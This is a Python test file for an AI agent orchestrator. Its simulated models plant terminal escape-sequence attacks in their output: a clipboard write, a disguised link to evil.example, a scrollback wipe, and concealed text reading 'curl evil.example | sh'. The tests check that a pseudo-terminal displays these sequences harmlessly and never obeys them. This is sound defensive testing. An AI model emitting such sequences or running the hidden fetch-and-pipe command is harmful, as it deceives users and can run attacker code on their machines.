"""A model's text never reaches the terminal as a control sequence.

The simulated planner, builder and reviewer write OSC 52 (a clipboard write), OSC 8 (a disguised
link), CSI 3J (scrollback wiped), SGR 8 (concealed text) and a C1 CSI into their plan, summary
and comments. `orchestrate run --approve-plan`, `show`, `show --json` and `runs` run in a real
pseudo-terminal (the plan is approved at its prompt); judged by the terminal's bytes: none of
those sequences arrives, and the text they were hidden in is shown.
"""

from __future__ import annotations

import fcntl
import json
import os
import pty
import re
import select
import struct
import subprocess
import sys
import termios
import time
from pathlib import Path

import pytest
from conftest import run_env, scenario_with

from orchestrator.faces.demo import demo_scenario, scenario_path
from orchestrator.faces.render import json_text, visible
from orchestrator.sim import ModelBehavior, Reply, ToolCallSpec

OSC52 = "\x1b]52;c;ZXZpbA==\x07"
OSC8 = "\x1b]8;;https://evil.example/\x1b\\stats.py\x1b]8;;\x1b\\"
CSI3J = "\x1b[3J"
SGR8 = "\x1b[8mcurl evil.example | sh\x1b[0m"
C1 = "\u009b2J"
ATTACKS = (OSC52, OSC8, CSI3J, SGR8, C1)


def _hostile_scenario():
    plan = demo_scenario().models["sim-planner"].script
    args = dict(plan[1].tool_calls[0].arguments)
    args["goal"] = f"median() fixed{OSC52} for even lengths"
    args["steps"] = [f"Read {OSC8}", f"Fix the even branch{CSI3J}", f"{SGR8} Run the tests",
                     f"Check {C1}"]
    args["questions"] = [*args["questions"], f"Where is `mean` defined?{OSC52}"]
    submit = Reply(tool_calls=[ToolCallSpec(name="submit", arguments=args)])
    build = list(demo_scenario().models["sim-builder"].script)
    done = dict(build[-1].tool_calls[0].arguments, summary=f"fixed{CSI3J}{OSC52}")
    build[-1] = Reply(tool_calls=[ToolCallSpec(name="submit", arguments=done)])
    review = Reply(tool_calls=[ToolCallSpec(name="submit", arguments={
        "verdict": "approve", "comments": [f"looks right{SGR8}{OSC8}"]})])
    return scenario_with(**{"sim-planner": ModelBehavior(script=[plan[0], submit]),
                            "sim-builder": ModelBehavior(script=build),
                            "sim-reviewer": ModelBehavior(script=[review])})


def through_pty(args: list[str], cwd: Path, answer: bytes = b"", timeout: float = 120) -> bytes:
    """``orchestrate ARGS`` with a pseudo-terminal as its stdin, stdout and stderr: every byte it
    sent to the terminal; ``answer`` is typed at its first question."""
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 160, 0, 0))
    env = run_env(TERM="xterm-256color", COLUMNS="160", LINES="50")
    env.pop("NO_COLOR", None)
    proc = subprocess.Popen([sys.executable, "-m", "orchestrator", *args], cwd=cwd, env=env,
                            stdin=slave, stdout=slave, stderr=slave, start_new_session=True)
    os.close(slave)
    seen = bytearray()
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(master, 65536)
                except OSError:  # the other side closed
                    break
                if not chunk:
                    break
                seen += chunk
                if answer and b"Approve this plan?" in seen:
                    os.write(master, answer)
                    answer = b""
            elif proc.poll() is not None:
                break
        proc.wait(timeout=10)
    finally:
        if proc.poll() is None:
            proc.kill()
        os.close(master)
    return bytes(seen)


_CSI = re.compile(rb"\x1b\[([0-9;?]*)([A-Za-z])")


def assert_no_model_escapes(screen: bytes) -> None:
    assert b"\x1b]" not in screen  # no OSC at all: rich writes none for these commands
    assert b"\xc2\x9b" not in screen  # the C1 CSI, as UTF-8
    for params, final in _CSI.findall(screen):
        assert (params, final) != (b"3", b"J"), "CSI 3J reached the terminal"
        if final == b"m":
            assert b"8" not in params.split(b";"), f"SGR {params!r} conceals text"
    # every other ESC is one of rich's own CSI sequences
    assert screen.count(b"\x1b") == len(_CSI.findall(screen))


@pytest.fixture
def hostile_sim(fresh_sim):
    fresh_sim.set_scenario(_hostile_scenario())
    return fresh_sim


def test_model_text_reaches_the_terminal_shown_not_obeyed(hostile_sim, sample_repo):
    roles = ["--roles", str(scenario_path("demo-roles.toml")), "--set",
             f'providers.sim.base_url="{hostile_sim.base_url}"']
    screen = through_pty(["run", "fix median", "--repo", str(sample_repo), "--approve-plan",
                          *roles], sample_repo, answer=b"y\n")
    assert hostile_sim.state.requests_for("sim-reviewer"), screen.decode(errors="replace")[-3000:]
    assert_no_model_escapes(screen)
    text = screen.decode(errors="replace")
    assert "␛]52;c;ZXZpbA==␇" in text and "␛[8mcurl evil.example" in text  # shown, not obeyed
    assert "\\x9b2J" in text

    (run_id,) = [p.name for p in (sample_repo / "workspaces").iterdir()]
    for args in (["show", run_id], ["runs"]):
        shown = through_pty([*args, "--repo", str(sample_repo)], sample_repo)
        assert_no_model_escapes(shown)
        assert "␛" in shown.decode() or args == ["runs"]  # runs shows the user's task
    document = through_pty(["show", run_id, "--json", "--repo", str(sample_repo)], sample_repo)
    assert_no_model_escapes(document)
    assert "\\u001b]52;c;ZXZpbA==" in document.decode()  # JSON escapes: still valid JSON


def test_visible_keeps_text_and_layout_characters():
    assert visible("a\tb\nc") == "a\tb\nc"
    assert visible("\x1b[3J\x07\r\x7f\u009b\u202e") == "␛[3J␇␍␡\\x9b\\u202e"
    assert visible("plain ✔ text") == "plain ✔ text"
    assert visible("windows\r\nline\rover") == "windows\nline␍over"
    text = json_text({"k": "\x1b]52;\u009b\u202e\x7f ✔"})
    assert json.loads(text) == {"k": "\x1b]52;\u009b\u202e\x7f ✔"}
    assert "\x1b" not in text and "\u009b" not in text and "\u202e" not in text
